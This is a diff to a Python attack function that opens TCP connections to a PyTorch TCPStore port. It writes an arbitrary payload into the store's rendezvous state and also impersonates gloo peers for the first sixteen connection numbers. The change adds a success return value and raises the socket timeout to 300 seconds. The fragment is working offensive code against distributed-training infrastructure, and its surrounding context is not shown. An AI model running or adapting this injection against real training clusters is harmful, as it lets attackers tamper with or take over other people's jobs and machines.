@@ -76,14 +76,17 @@ _VALIDATE = b"\x00" + (0x3C85F7CE).to_bytes(4, "little")
 """How a client of torch's TCPStore begins."""
 
 
-def attack(address: str, port: int, payload: bytes, run_id: str) -> None:
+def attack(address: str, port: int, payload: bytes, run_id: str) -> bool:
     """Write ``payload`` to a port as a store's rendezvous state, and as a peer of gloo with each of the first numbers
-    that a group gives its connections.
+    that a group gives its connections. Return whether anything could be written: the port may be closed meanwhile.
     """
+    reached = False
     state = b"\x01" + _counted(f"/torch.rendezvous.{run_id}".encode()) + _counted(base64.b64encode(payload))
     for beginning in (_VALIDATE + state, *(number.to_bytes(8, "little") + payload for number in range(16))):
-        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=2) as connection:
+        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=300) as connection:
             connection.sendall(beginning)
+            reached = True
+    return reached
 
 
 def _counted(text: bytes) -> bytes:
